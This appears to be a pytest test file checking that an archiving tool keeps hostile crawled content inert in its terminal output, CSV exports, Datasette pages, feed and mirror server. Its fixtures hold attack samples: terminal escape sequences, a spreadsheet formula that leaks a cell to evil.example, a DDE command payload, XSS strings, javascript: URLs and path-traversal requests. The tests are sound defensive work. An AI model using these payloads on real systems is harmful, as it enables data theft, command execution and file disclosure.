"""Hostile crawled content stays inert: in the terminal, in CSV, in Datasette, and the mirror stays in its root."""
from __future__ import annotations

import csv
import io
import json
import os
import socket
import urllib.error
import urllib.parse
import urllib.request

import pytest

from archive import termsafe
from archive.faces.datasette_plugin import marked_html
from archive.db import open_db, text_hash
from archive.export import export
from archive.tooling.mirror_server import serve_in_thread
from archive.search import snippet
from conftest import run_archive

# An OSC that sets the window title, a colour, an 8-bit CSI (clear screen), a bidi override, a bell.
EVIL_TITLE = "\x1b]0;pwned\x07储能 \x1b[31mred\x1b[0m title \x9b2J\u202eevil\x07"
EVIL_TEXT = "储能项目。\x1b[2J\x1b]52;c;Y2xpcA==\x07正文继续 \x1b[1;31m警告\x1b[0m。"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
TERMINAL_BYTES = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")


def _archive(tmp_path):
    db = open_db(tmp_path / "archive.db")
    rows = [
        ("https://a.cn/1.html", "a", EVIL_TITLE, EVIL_TEXT),
        ("https://a.cn/2.html", "a", FORMULA, "+cmd|' /C calc'!A0 储能"),
        ("https://a.cn/3.html", "a", "@SUM(1+1)*cmd 储能", "-2+3 储能\n\tTab"),
        ("https://a.cn/4.html", "a", "普通标题 储能", "正常正文，储能。"),
    ]
    for url, site, title, text in rows:
        db.execute("INSERT INTO articles (url, site, title, text, text_hash, first_seen, last_seen) "
                   "VALUES (?, ?, ?, ?, ?, 't0', 't0')", [url, site, title, text, text_hash(text)])
    db.conn.close()
    return tmp_path / "archive.db"


# ------------------------------------------------------------------ terminal

def test_clean_strips_escape_sequences_and_controls():
    assert termsafe.clean(EVIL_TITLE, one_line=True) == "储能 red title evil"
    assert termsafe.clean("a\x1bcb\x00c\x7fd\x85e") == "abcde"
    assert termsafe.clean("第一段\n第二段\t完") == "第一段\n第二段\t完"
    assert termsafe.clean("line\none", one_line=True) == "line one"
    # an unterminated OSC swallows a bounded stretch, never the rest of a long text
    assert termsafe.clean("\x1b]0;" + "x" * 600 + "尾").endswith("尾")


def test_search_cli_never_prints_escape_sequences(tmp_path):
    db = _archive(tmp_path)
    proc = run_archive("search", "储能", "--db", db)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "储能 red title evil" in out  # the title is shown, without its sequences
    assert "正文继续" in out or "警告" in out
    for ch in TERMINAL_BYTES:
        assert ch not in out, repr(ch)
    proc = run_archive("search", "储能", "--db", db, "--json")
    assert proc.returncode == 0, proc.stderr
    for ch in TERMINAL_BYTES:
        assert ch not in proc.stdout, repr(ch)
    titles = {r["title"] for r in json.loads(proc.stdout)}
    assert EVIL_TITLE in titles  # JSON escapes them: nothing is lost


def test_jsonl_export_escapes_terminal_characters_losslessly(tmp_path):
    db = open_db(_archive(tmp_path))
    out = io.StringIO()
    export(db, out, fmt="jsonl")
    for ch in TERMINAL_BYTES:
        assert ch not in out.getvalue(), repr(ch)
    recs = [json.loads(line) for line in out.getvalue().splitlines()]
    assert recs[0]["title"] == EVIL_TITLE and recs[0]["text"] == EVIL_TEXT


# ----------------------------------------------------------------------- CSV

def test_csv_export_neutralises_formulas(tmp_path):
    db = _archive(tmp_path)
    proc = run_archive("export", "--db", db, "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("\ufeff")  # the BOM (for Excel) comes before the header, never in a cell
    rows = list(csv.DictReader(io.StringIO(proc.stdout[1:])))
    by_url = {r["url"]: r for r in rows}
    assert by_url["https://a.cn/2.html"]["title"] == "'" + FORMULA
    assert by_url["https://a.cn/2.html"]["text"].startswith("'+cmd")
    assert by_url["https://a.cn/3.html"]["title"].startswith("'@SUM")
    assert by_url["https://a.cn/3.html"]["text"].startswith("'-2+3")
    assert by_url["https://a.cn/4.html"]["title"] == "普通标题 储能"  # ordinary cells untouched
    assert by_url["https://a.cn/4.html"]["id"] == "4"
    for r in rows:  # no cell a spreadsheet would run
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert termsafe.csv_cell(-3) == -3 and termsafe.csv_cell("\rx") == "'\rx"


# ----------------------------------------------------------------- Datasette

def test_marked_html_lets_only_marks_through():
    genuine = snippet("前文<b>储能</b> & 后文", "储能")
    assert "<mark>储能</mark>" in genuine
    assert marked_html(genuine) == genuine  # the function's own output is unchanged
    crafted = '<script>alert(1)</script><img src=x onerror=alert(2)><mark onclick="x">储能</mark>'
    html = str(marked_html(crafted))
    assert "<script" not in html and "<img" not in html and "<mark onclick" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert str(marked_html("&lt;script&gt;")) == "&lt;script&gt;"  # pre-escaped text stays text


def test_datasette_sql_named_snippet_is_not_html(tmp_path):
    from archive.faces.serve import free_port, start

    db = _archive(tmp_path)
    log = open(tmp_path / "datasette.log", "w")
    proc, url = start(db, port=free_port(), log=log)
    try:
        sql = ("select '<script>document.title=\"pwned\"</script>' as snippet, "
               "'<img src=x onerror=alert(1)>' as x, archive_snippet(text, '储能') as s2 from articles limit 1")
        with urllib.request.urlopen(f"{url}/archive?sql={urllib.parse.quote(sql)}", timeout=30) as resp:
            page = resp.read().decode("utf-8")
        assert "<script>document.title" not in page and "<img src=x" not in page
        assert "&lt;script&gt;document.title" in page
        assert "<mark>储能</mark>" in page  # the project's own snippet keeps its marks, whatever its column name
    finally:
        proc.terminate()
        proc.wait(timeout=20)
        log.close()


def test_datasette_csv_downloads_neutralise_formulas(tmp_path):
    """Datasette's own CSV (a table's .csv and a query's .csv) is as inert as ``archive export``'s."""
    from archive.faces.serve import free_port, start

    db = _archive(tmp_path)
    log = open(tmp_path / "datasette.log", "w")
    proc, url = start(db, port=free_port(), log=log)
    try:
        sql = urllib.parse.quote("select id, url, title, text, -3 as n from articles order by id")
        for path in ("/archive/articles.csv?_size=max&_dl=1", f"/archive.csv?sql={sql}"):
            status, body = _get(url + path)
            assert status == 200, path
            rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
            by_url = {r["url"]: r for r in rows}
            assert by_url["https://a.cn/2.html"]["title"] == "'" + FORMULA, path
            assert by_url["https://a.cn/3.html"]["text"].startswith("'-2+3"), path
            assert by_url["https://a.cn/4.html"]["title"] == "普通标题 储能", path  # ordinary cells untouched
            for r in rows:
                for name, value in r.items():
                    assert not value.startswith(("=", "+", "@", "\t", "\r")), (path, name, value)
                    assert not value.startswith("-") or value == "-3", (path, name, value)
        status, body = _get(url + "/archive/articles.json?_shape=array")  # JSON is left as it is
        assert status == 200 and FORMULA in {r["title"] for r in json.loads(body)}
    finally:
        proc.terminate()
        proc.wait(timeout=20)
        log.close()
    assert termsafe.csv_document('a,b\r\n=1+1,-3\r\n"x\r\ny",@z\r\n') == 'a,b\r\n\'=1+1,-3\r\n"x\r\ny",\'@z\r\n'


def test_archive_pages_and_feed_keep_hostile_content_inert(tmp_path):
    """The article list, article page, search page and Atom feed show crawled markup as text and
    never link a javascript: URL; the feed stays well-formed XML with control characters in a text."""
    import xml.etree.ElementTree as ET

    from archive.faces.serve import free_port, start

    path = _archive(tmp_path)
    db = open_db(path)
    db.execute("UPDATE articles SET title = '<script>window.x=1</script>储能', keywords = ?, "
               "text = text || '<img src=x onerror=alert(1)>' WHERE url = 'https://a.cn/4.html'",
               ['["<b>tag</b>", "储能"]'])
    aid = db.execute("SELECT id FROM articles WHERE url = 'https://a.cn/4.html'").fetchone()[0]
    db.execute("UPDATE articles SET url = 'javascript:alert(document.cookie)' WHERE id = ?", [aid])
    db.execute("INSERT INTO attachments (article_id, url, name, first_seen) VALUES (?, ?, ?, 't0')",
               [aid, "javascript:alert(2)", "<i>附件</i>"])
    db.conn.close()
    log = open(tmp_path / "datasette.log", "w")
    proc, url = start(path, port=free_port(), log=log)
    try:
        pages = {p: _get(url + p) for p in ("/archive/articles", f"/archive/articles/{aid}",
                                            "/archive/-/search?q=" + urllib.parse.quote("储能"))}
        for p, (status, body) in pages.items():
            page = body.decode("utf-8")
            assert status == 200, p
            assert "<script>window.x" not in page and "<img src=x" not in page, p
            assert 'href="javascript:' not in page.lower(), p
            assert "<b>tag</b>" not in page and "<i>附件</i>" not in page, p
        assert "&lt;script&gt;window.x=1&lt;/script&gt;储能" in pages[f"/archive/articles/{aid}"][1].decode()
        status, body = _get(url + "/archive/-/feed.atom?q=" + urllib.parse.quote("储能"))
        feed = ET.fromstring(body)  # well-formed despite the control characters of EVIL_TITLE
        titles = [e.text for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
        assert "<script>window.x=1</script>储能" in titles  # text, escaped by the XML writer
        assert not any("javascript:" in (l.get("href") or "") for l in feed.iter("{http://www.w3.org/2005/Atom}link"))
    finally:
        proc.terminate()
        proc.wait(timeout=20)
        log.close()


# -------------------------------------------------------------------- mirror

@pytest.fixture()
def mirror_tree(tmp_path):
    root = tmp_path / "root"
    (root / "a.cn" / "dir").mkdir(parents=True)
    (root / "a.cn" / "page.html").write_text("<p>inside</p>", "utf-8")
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key.txt").write_text("SECRET", "utf-8")
    (secret / "index.html").write_text("SECRET INDEX", "utf-8")
    os.symlink(secret / "key.txt", root / "a.cn" / "leak.txt")
    os.symlink(secret, root / "a.cn" / "outdir")
    os.symlink(secret / "index.html", root / "a.cn" / "dir" / "index.html")
    os.symlink(root / "a.cn" / "page.html", root / "a.cn" / "same.html")  # a link inside the root is fine
    server, url = serve_in_thread(root)
    yield url, server.server_address
    server.shutdown()


def _get(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def _raw(address, path: bytes) -> tuple[int, bytes]:
    with socket.create_connection(address, timeout=10) as s:
        s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return int(data.split(b" ", 2)[1]), data


def test_mirror_stays_inside_its_root(mirror_tree, capfd):
    url, address = mirror_tree
    assert _get(f"{url}/a.cn/page.html") == (200, b"<p>inside</p>")
    assert _get(f"{url}/a.cn/same.html") == (200, b"<p>inside</p>")
    for path in ("/a.cn/leak.txt", "/a.cn/outdir/key.txt", "/a.cn/outdir/", "/a.cn/dir/"):
        status, body = _get(url + path)
        assert status == 404 and b"SECRET" not in body, path
    for path in (b"/a.cn/page.html%00.txt", b"/a.cn/%00", b"/a.cn/../../secret/key.txt",
                 b"/a.cn/%2e%2e/%2e%2e/secret/key.txt", b"/a.cn/%ff%fe.html", b"/a.cn/%c0%ae%c0%ae/x",
                 b"/a.cn/..%5c..%5csecret%5ckey.txt", b"/a.cn/%1b[31m"):
        status, body = _raw(address, path)
        assert status == 400 and b"SECRET" not in body, path
    err = capfd.readouterr().err
    assert "Traceback" not in err
